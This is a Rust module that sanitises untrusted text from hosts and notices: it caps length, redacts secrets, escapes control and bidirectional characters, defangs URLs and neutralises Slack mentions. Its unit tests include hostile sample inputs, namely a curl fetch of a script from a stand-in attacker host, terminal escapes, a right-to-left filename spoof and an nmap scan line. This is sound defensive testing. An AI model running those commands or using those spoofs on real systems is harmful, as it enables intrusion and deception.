//! Text that hosts and notices wrote: one type for it, and the only ways out of it.
//!
//! A command line, a user name or a tag may hold anything an attacker likes: mentions, links, terminal
//! escapes, text that runs backwards, ten megabytes of it. [`Untrusted`] has no `Display`; it leaves only
//! bounded, with every unprintable character shown, secrets hidden and links made dead. What is rendered
//! further (HTML, SVG, Slack's mrkdwn) is escaped there once more, for that language.

use history::redact;
use serde::Deserialize;
use serde::Serialize;

/// Bytes kept of any text from outside; more is cut when it is taken in.
const KEPT_BYTES: usize = 16 << 10;

/// Arguments kept of a command line.
const ARGUMENTS_KEPT: usize = 1_000;

/// Text from a host or a notice. Secrets are hidden when it is taken in; the rest is kept as it came.
#[derive(Clone, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(from = "String")]
pub struct Untrusted(String);

impl From<String> for Untrusted {
    fn from(text: String) -> Self {
        Self::new(&text)
    }
}

impl From<&str> for Untrusted {
    fn from(text: &str) -> Self {
        Self::new(text)
    }
}

/// So that a log line or a failed assertion shows it safely, too.
impl std::fmt::Debug for Untrusted {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Untrusted({:?})", self.shown(200))
    }
}

impl Untrusted {
    /// Takes text in.
    pub fn new(text: &str) -> Self {
        let text = redact::text(cut_bytes(text, KEPT_BYTES));
        Self(cut_bytes(&text, KEPT_BYTES).to_owned())
    }

    /// Takes a command line in: arguments quoted as a shell would want them where that is needed.
    pub fn command_line(arguments: &[String]) -> Self {
        // The host has hidden secrets already, if its recorder is not an old one.
        let arguments = arguments.get(..ARGUMENTS_KEPT).unwrap_or(arguments);
        let mut line = String::new();
        let (redacted, _) = redact::command_line(arguments);
        for argument in redacted {
            if line.len() > KEPT_BYTES {
                break;
            }
            if !line.is_empty() {
                line.push(' ');
            }
            line.push_str(&quoted(cut_bytes(&argument, KEPT_BYTES)));
        }
        Self::new(&line)
    }

    /// Whether there is nothing in it.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The text as it came, for comparing it with other data; never for showing it.
    pub fn raw(&self) -> &str {
        &self.0
    }

    /// The text for a person, on one line and in at most `limit` characters.
    ///
    /// Plain text: it may stand in a Slack `plain_text` or `rich_text` element, in a terminal, and, escaped
    /// as any text is, in HTML and SVG.
    pub fn shown(&self, limit: usize) -> String {
        visible(&dead_links(&self.0), limit)
    }

    /// The text for Slack's mrkdwn, where nothing better can be had.
    pub fn mrkdwn(&self, limit: usize) -> String {
        mrkdwn(&self.shown(limit))
    }
}

/// Any composed text for a terminal or plain text: one line, nothing in it that is not printable.
pub fn visible(text: &str, limit: usize) -> String {
    let mut shown = String::with_capacity(text.len().min(limit));
    let mut length = 0;
    let mut marks = 0;
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        marks = if is_combining(character) { marks + 1 } else { 0 };
        let piece = if marks > MARKS_MAX { escaped(character) } else { piece(character) };
        let width = piece.chars().count();
        if length + width > limit.saturating_sub(1) {
            // Room for the mark that says it goes on, unless this is exactly the end.
            if length + width > limit || characters.next().is_some() {
                shown.push('…');
                return shown;
            }
        }
        length += width;
        shown.push_str(&piece);
    }
    shown
}

/// Any composed text for Slack's mrkdwn: nothing in it is a mention, a link, a command or emphasis.
pub fn mrkdwn(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            // Slack has no escape for these; a look-alike is not one of its commands.
            '`' => out.push('\u{2bc}'),
            '*' => out.push('\u{2217}'),
            '~' => out.push('\u{223c}'),
            '@' => out.push('\u{ff20}'),
            _ => out.push(character),
        }
    }
    out
}

/// Combining marks that one character may carry before they are shown as escapes.
const MARKS_MAX: usize = 2;

fn is_combining(character: char) -> bool {
    matches!(character, '\u{300}'..='\u{36f}' | '\u{483}'..='\u{489}' | '\u{1ab0}'..='\u{1aff}'
        | '\u{1dc0}'..='\u{1dff}' | '\u{20d0}'..='\u{20ff}' | '\u{fe20}'..='\u{fe2f}')
}

fn piece(character: char) -> String {
    match character {
        '\n' => "\\n".to_owned(),
        '\r' => "\\r".to_owned(),
        '\t' => "\\t".to_owned(),
        _ if is_unprintable(character) => escaped(character),
        _ => character.to_string(),
    }
}

fn escaped(character: char) -> String {
    match character as u32 {
        code @ 0..=0xff => format!("\\x{code:02x}"),
        code => format!("\\u{{{code:x}}}"),
    }
}

/// Control, format, bidirectional, invisible, private and filler characters.
fn is_unprintable(character: char) -> bool {
    character.is_control()
        || matches!(character,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{e000}'..='\u{f8ff}'
            | '\u{e0000}'..='\u{e0fff}' | '\u{f0000}'..='\u{10ffff}')
        || (character.is_whitespace() && character != ' ')
}

/// `http://evil.example/x` becomes `hxxp://evil[.]example/x`, so that nothing makes a link of it.
fn dead_links(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = (&rest[..at], &rest[at + 3..]);
        let scheme = before
            .rfind(|character: char| !character.is_ascii_alphanumeric())
            .map_or(0, |index| index + before[index..].chars().next().map_or(1, char::len_utf8));
        out.push_str(&before[..scheme]);
        out.push_str(&dead_scheme(&before[scheme..]));
        out.push_str("://");
        let end = after
            .find(|character: char| {
                matches!(character, '/' | '?' | '#' | '"' | '\'' | ')') || character.is_whitespace()
            })
            .unwrap_or(after.len());
        out.push_str(&after[..end].replace('.', "[.]"));
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

fn dead_scheme(scheme: &str) -> String {
    match scheme.to_ascii_lowercase().as_str() {
        "http" => "hxxp".to_owned(),
        "https" => "hxxps".to_owned(),
        "ftp" => "fxp".to_owned(),
        _ => scheme.to_owned(),
    }
}

fn quoted(argument: &str) -> String {
    let plain = |character: char| {
        character.is_alphanumeric()
            || matches!(character, '-' | '_' | '.' | '/' | ':' | ',' | '=' | '+' | '@' | '%' | '[' | ']')
    };
    if !argument.is_empty() && argument.chars().all(plain) {
        argument.to_owned()
    } else {
        format!("'{}'", argument.replace('\'', "'\\''"))
    }
}

fn cut_bytes(text: &str, limit: usize) -> &str {
    if text.len() <= limit {
        return text;
    }
    let end = (0..=limit).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    &text[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_unprintable_comes_out() {
        let check =
            |raw: &str, expected: &str| assert_eq!(Untrusted::new(raw).shown(200), expected, "{raw:?}");
        check("plain", "plain");
        check("\x1b[31mred\x07", "\\x1b[31mred\\x07");
        check("a\u{202e}gnp.exe", "a\\u{202e}gnp.exe");
        check("ze\u{200b}ro", "ze\\u{200b}ro");
        check("two\nlines\r\n", "two\\nlines\\r\\n");
        check("non\u{a0}breaking", "non\\xa0breaking");
        check("curl http://evil.example/x.sh", "curl hxxp://evil[.]example/x.sh");
        check("é http://a.b é://c.d", "é hxxp://a[.]b é://c[.]d");
        check("Ünïcödé 日本", "Ünïcödé 日本");
    }

    #[test]
    fn length_is_bounded_in_characters() {
        assert_eq!(Untrusted::new("abcdef").shown(6), "abcdef");
        assert_eq!(Untrusted::new("abcdefg").shown(6), "abcde…");
        assert_eq!(Untrusted::new("日本語日本語").shown(4), "日本語…");
        assert_eq!(Untrusted::new("\u{1}\u{1}").shown(5), "\\x01…");
        let huge = "x".repeat(10 << 20);
        assert_eq!(Untrusted::new(&huge).raw().len(), KEPT_BYTES);
        assert_eq!(Untrusted::new(&huge).shown(100).chars().count(), 100);
        assert!(Untrusted::new(&format!("a{}", "\u{301}".repeat(100))).shown(50).contains("\\u{301}"));
    }

    #[test]
    fn mrkdwn_knows_no_command_in_it() {
        assert_eq!(
            Untrusted::new("<!channel> <@U123> `x` *b* & <https://e.example|ok>").mrkdwn(200),
            "&lt;!channel&gt; &lt;＠U123&gt; ʼxʼ ∗b∗ &amp; &lt;hxxps://e[.]example|ok&gt;",
        );
    }

    #[test]
    fn command_lines_keep_their_arguments_apart() {
        let line = |arguments: &[&str]| {
            let arguments: Vec<String> = arguments.iter().map(|&argument| argument.to_owned()).collect();
            Untrusted::command_line(&arguments).raw().to_owned()
        };
        assert_eq!(line(&["nmap", "-sS", "198.51.100.7"]), "nmap -sS 198.51.100.7");
        assert_eq!(line(&["sh", "-c", "a b; c"]), "sh -c 'a b; c'");
        assert_eq!(line(&["x", "", "it's"]), "x '' 'it'\\''s'");
    }
}
